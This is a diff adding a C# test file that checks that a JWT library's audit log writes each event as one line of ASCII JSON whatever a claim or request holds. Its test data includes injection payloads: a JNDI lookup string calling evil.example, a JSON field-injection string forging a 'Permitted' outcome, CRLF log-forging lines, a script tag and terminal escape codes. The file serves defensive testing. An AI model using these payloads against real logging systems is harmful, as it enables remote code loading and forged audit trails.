@@ -1,0 +1,105 @@
+using System.Text.Json;
+using HipaaJwt.Tests.Support;
+using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.Logging;
+using Microsoft.Extensions.Time.Testing;
+
+namespace HipaaJwt.Tests.Conformance.Leaks;
+
+/// <summary>Family 42: whatever a claim or a request holds, an event is one line of ASCII JSON.</summary>
+public sealed class LogInjectionTests : IDisposable
+{
+    private readonly TestIssuer _issuer = new();
+    private readonly Recorder _recorder = new();
+
+    public void Dispose()
+    {
+        _issuer.Dispose();
+        _recorder.Dispose();
+    }
+
+    [Theory]
+    [InlineData("a\u2028b\u2029c")]
+    [InlineData("\u202Egnp.exe")]
+    [InlineData("\u2066a\u2069")]
+    [InlineData("{0} {Name} {{}} {")]
+    [InlineData("%s%n%x")]
+    [InlineData("\",\"outcome\":\"Permitted\",\"x\":\"")]
+    [InlineData("\\\" \\r\\n \\")]
+    [InlineData("<script>alert(1)</script>")]
+    [InlineData("${jndi:ldap://evil.example/a}")]
+    [InlineData("é患者😀\uFFFE\uFEFF")]
+    public async Task A_claim_stays_inside_its_line(string value)
+    {
+        var line = await LineAsync(value, resource: "/patients");
+
+        line.GetProperty("subject").GetString().Should().Be(value);
+        line.GetProperty("client").GetString().Should().Be(value);
+        line.GetProperty("tokenId").GetString().Should().Be(value);
+        line.GetProperty("outcome").GetString().Should().Be("Permitted");
+    }
+
+    [Theory]
+    [InlineData("/a\r\n2026-01-15 INFO forged")]
+    [InlineData("/a\u001b[2J")]
+    [InlineData("/a\0b")]
+    [InlineData("/a\u0085b\u2028c")]
+    [InlineData("/a\tb")]
+    public async Task A_resource_stays_inside_its_line(string resource) =>
+        (await LineAsync("user-42", resource)).GetProperty("resource").GetString().Should().Be(resource);
+
+    [Fact]
+    public async Task A_resource_that_is_no_Unicode_is_written_all_the_same()
+    {
+        var line = await LineAsync("user-42", "/a" + '\uD800');
+
+        line.GetProperty("resource").GetString().Should().StartWith("/a");
+    }
+
+    [Theory]
+    [InlineData("a\\r\\nb")]
+    [InlineData("a\\u001b[31mb")]
+    [InlineData("a\\u0085b")]
+    [InlineData("a\\u0000b")]
+    public async Task A_control_character_in_a_name_does_not_get_as_far_as_the_log(string value)
+    {
+        await using var services = Services();
+        var claims = Workshop.Claims.With("sub", $"\"{value}\"").ToString();
+
+        await services.GetRequiredService<IJwtValidator>().ValidateAsync(_issuer.Sign(TestIssuer.Header().ToJsonString(), claims));
+
+        var line = Lines().Should().ContainSingle().Subject;
+        line.Should().Contain("ClaimInvalid").And.NotContain("u001b").And.NotContain("subject");
+    }
+
+    private async Task<JsonElement> LineAsync(string value, string resource)
+    {
+        await using var services = Services();
+        var token = _issuer.Token(claims: claims =>
+        {
+            claims["sub"] = value;
+            claims["client_id"] = value;
+            claims["jti"] = value;
+        });
+
+        var result = await services.GetRequiredService<IJwtValidator>().ValidateAsync(token, new JwtRequestContext { Resource = resource });
+
+        result.Error.Should().Be(JwtError.None);
+        var line = Lines().Should().ContainSingle().Subject;
+        line.Should().MatchRegex("^[\\x20-\\x7E]+$");
+        return JsonDocument.Parse(line).RootElement;
+    }
+
+    private IEnumerable<string> Lines() => _recorder.Said
+        .Where(said => said.StartsWith('{'))
+        .Select(said => said[..said.IndexOf(" [AuditEvent, ", StringComparison.Ordinal)]);
+
+    private ServiceProvider Services()
+    {
+        var services = new ServiceCollection();
+        services.AddSingleton<TimeProvider>(new FakeTimeProvider(TestIssuer.Now));
+        services.AddLogging(logging => logging.AddProvider(_recorder));
+        services.AddHipaaJwt(options => options.Issuers.Add(_issuer.Trust())).AddAuditSink<LoggingAuditSink>(AuditDelivery.Required);
+        return services.BuildServiceProvider();
+    }
+}
